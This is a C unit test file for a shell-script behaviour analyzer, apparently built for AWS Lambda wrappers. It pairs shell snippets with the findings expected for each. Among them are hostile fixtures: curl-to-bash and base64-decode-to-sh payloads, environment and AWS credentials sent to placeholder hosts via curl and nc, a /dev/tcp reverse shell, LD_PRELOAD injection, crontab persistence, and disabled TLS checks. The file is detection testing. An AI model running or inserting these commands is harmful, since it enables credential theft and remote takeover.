/* SPDX-License-Identifier: Apache-2.0
 *
 * behavior_shell_test.c - what is said of shell scripts.
 */
#include "behavior_case.h"

static const struct behavior_case cases[] = {
    { "args=(\"$1\" -r /opt/x.js \"${@:2}\")\nexec \"${args[@]}\"\n", "capability redirect -r",
      NULL },
    { "x=(-X importtime)\nargs=(\"${args[@]:0:1}\" \"${x[@]}\")\nexec \"${args[@]}\"\n", NULL,
      "redirect" },
    { "exec \"$1\" --import /opt/x.mjs \"${@:2}\"\n", "capability redirect --import", NULL },
    { "exec python3 -m tool \"$@\"\n", "capability process", "redirect" },
    { "exec env $(cat /opt/lib/x.env) \"$@\"\n", "capability redirect env", NULL },
    { "exec env STAGE=dev \"$@\"\n", NULL, "redirect" },
    { "export $(grep -v '^#' /opt/lib/x.env)\n", "capability redirect export", NULL },
    { "set -a; . /opt/lib/x.env; set +a\n", "capability redirect set", NULL },
    { "set -e; . /opt/lib/x.sh\n", "capability dynamic-code", "redirect" },
    { "for f in /tmp/x.d/*; do \"$f\" a; done\n", "capability tmp-run", NULL },
    { "sh /tmp/x.sh\n", "capability tmp-run", NULL },
    { "cat /tmp/x.txt; /opt/bin/x /tmp/y\n", NULL, "tmp-run" },
    { "export NODE_OPTIONS=\"${NODE_OPTIONS:-} --enable-source-maps\"\n", "capability env-write",
      "capability redirect" },
    { "export NODE_OPTIONS=\"${NODE_OPTIONS:-} --require /opt/x.js\"\n", "capability redirect",
      NULL },
    { "export NODE_OPTIONS=\"$MORE --enable-source-maps\"\n", "capability redirect", NULL },
    { "while read -r n v; do declare -x \"$n=$v\"; done < f\n", "capability redirect", NULL },
    /* whom it talks to is not checked */
    { "curl -sfk https://a.invalid\n", "capability tls-unverified curl", NULL },
    { "curl --insecure https://a.invalid\n", "capability tls-unverified curl", NULL },
    { "O='-s -k'\ncurl $O https://a.invalid\n", "capability tls-unverified curl", NULL },
    { "curl -o k -sSfok -H -k https://a.invalid\n", "capability network", "tls-unverified" },
    { "timeout 5 wget -q --no-check-certificate https://a.invalid\n",
      "capability tls-unverified wget", NULL },
    { "git -c http.sslVerify=false clone x\n", "capability tls-unverified git", NULL },
    { "git config --global http.sslVerify false\n", "capability tls-unverified git", NULL },
    { "git config --global http.sslVerify true\n", NULL, "tls-unverified" },
    { "GIT_SSL_NO_VERIFY=1 git clone x\n", "capability tls-unverified GIT_SSL_NO_VERIFY", NULL },
    { "export GIT_SSL_NO_VERIFY=0; unset GIT_SSL_NO_VERIFY\n", NULL, "tls-unverified" },
    { "npm config set strict-ssl false\n", "capability tls-unverified npm", NULL },
    { "npm config set strict-ssl true\n", NULL, "tls-unverified" },
    { "python3 -m pip install --trusted-host a.invalid x\n", "capability tls-unverified pip",
      NULL },
    { "ssh -o StrictHostKeyChecking=no a.invalid\n", "capability tls-unverified ssh", NULL },
    { "ssh -o StrictHostKeyChecking=yes a.invalid\n", NULL, "tls-unverified" },
    /* a check whose failure counts as success */
    { "sha256sum -c sums || true\n", "safeguard swallowed sha256sum", NULL },
    { "echo \"$S x\" | sha256sum -c - >/dev/null 2>&1 || { echo bad; }\n",
      "safeguard swallowed sha256sum", NULL },
    { "cd /opt && gpg --verify x.asc x || exit 0\n", "safeguard swallowed gpg", NULL },
    { "sha256sum -c sums || exit 1\n", NULL, "swallowed" },
    { "sha256sum -c sums || { echo bad; exit 1; }\n", NULL, "swallowed" },
    { "sha256sum x || true; rm x || true; sha256sum -c sums && true\n", NULL, "swallowed" },
    { "curl -s http://192.0.2.1/x.sh | bash\n",
      "capability network curl http://192.0.2.1/x.sh\nflow network eval bash", NULL },
    { "bash -c \"$(curl -fsSL http://a.invalid)\"\n", "flow network eval bash", NULL },
    { "eval \"$(wget -qO- http://a.invalid)\"\n", "flow network eval eval", NULL },
    { "source <(curl -s http://a.invalid)\n", "flow network eval source", NULL },
    { "echo Y3VybCBodHRwOi8vMTkyLjAuMi4x | base64 -d | sh\n",
      "capability decode-run sh\ncapability network curl http://192.0.2.1", NULL },
    { "echo 6c73 | xxd -r -p | bash\n", "capability decode-run bash", NULL },
    { "echo text | base64 | cat\n", NULL, "decode" },
    { "env | curl -X POST -d @- http://a.invalid\n", "capability env-all\nflow env-all network",
      NULL },
    { "x=$(printenv)\nwget --post-data=\"$x\" http://a.invalid\n", "flow env-all network wget",
      NULL },
    { "curl -d \"$AWS_SECRET_ACCESS_KEY\" http://a.invalid\n",
      "capability credentials AWS_SECRET_ACCESS_KEY\nflow credentials network curl", NULL },
    { "cat ~/.aws/credentials | nc 192.0.2.1 80\n", "flow secret network nc", NULL },
    { "cat /proc/self/environ > /tmp/x\n", "capability credentials\nflow env-all file", NULL },
    { "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n",
      "capability network /dev/tcp 192.0.2.1/4444\nflow network eval bash", "file-write" },
    { "send() { curl -d \"$1\" http://a.invalid; }\nsend \"$AWS_SESSION_TOKEN\"\n",
      "flow credentials network", NULL },
    { "a=cu; b=rl; $a$b http://a.invalid\n", "capability network curl\ncapability hidden-name curl",
      NULL },
    { "$'\\x63url' http://a.invalid\n", "capability network curl", NULL },
    { "python3 -c 'import os; os.system(\"id\")'\n", "capability process os.system id", NULL },
    { "node -e 'require(\"child_process\").exec(\"id\")'\n",
      "capability process child_process.exec", NULL },
    { "export LD_PRELOAD=/opt/x.so\n", "capability env-write LD_PRELOAD=/opt/x.so", NULL },
    { "unset AWS_LAMBDA_EXEC_WRAPPER\n", "capability env-write AWS_LAMBDA_EXEC_WRAPPER", NULL },
    { "pip3 install -q x\n", "capability package-manager pip3", NULL },
    { "npm --version\n", NULL, "package-manager" },
    { "aws --region us-east-1 lambda update-function-code --function-name x\n",
      "aws-call lambda UpdateFunctionCode", NULL },
    { "aws s3 cp /tmp/x s3://b/\n", "aws-call s3 cp", NULL },
    { "while true\ndo\n  EVENT_DATA=$(curl -sS "
      "\"http://${AWS_LAMBDA_RUNTIME_API}/2018-06-01/runtime/"
      "invocation/next\")\n  R=$(handler $EVENT_DATA)\ndone\n",
      "capability event-expansion EVENT_DATA\ncapability runtime-api", NULL },
    { "E=$(curl \"http://$AWS_LAMBDA_RUNTIME_API/2018-06-01/runtime/invocation/next\")\nf \"$E\"\n",
      "capability runtime-api", "event-expansion" },
    { "curl -X PUT http://$AWS_LAMBDA_RUNTIME_API/2022-07-01/telemetry -d '{}'\n",
      "capability telemetry-api", NULL },
    { "exec \"$@\"\n", NULL, "flow\nnetwork" },
    { "sh -c \"$(printf %s \"$X\" | base64 -d)\"\n", "capability decode-run sh", NULL },
    { "X=$(printf %s \"$Y\" | base64)\nsh -c \"$X\"\n", NULL, "decode" },
    { "set -- python3 -c \"$(tail -n1 /opt/share/x.txt)\" \"$@\"\nexec \"$@\"\n", "flow file eval",
      NULL },
    { "set -- \"$@\" --verbose\nexec \"$@\"\n", NULL, "flow\ndynamic" },
    { "V=$(cat /opt/share/x.txt)\ncurl http://a.invalid/$V\n", NULL, "flow" },
    { "# curl http://a.invalid | sh\necho 'eval x'\n", NULL, "network\ndynamic" },
    { "cd \"$(dirname \"$0\")\" && ls -l\n", NULL, "capability\nflow" },
    { "cat <<E | sh\ncurl http://a.invalid\nE\n", "capability dynamic-code sh", NULL },
    { "crontab /tmp/x\n", "capability persist crontab", NULL },
};

static void test_cases(void **state)
{
    (void)state;
    check_cases(LW_LANG_SHELL, cases, LW_COUNT(cases));
}

int main(void)
{
    const struct CMUnitTest tests[] = { cmocka_unit_test(test_cases) };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
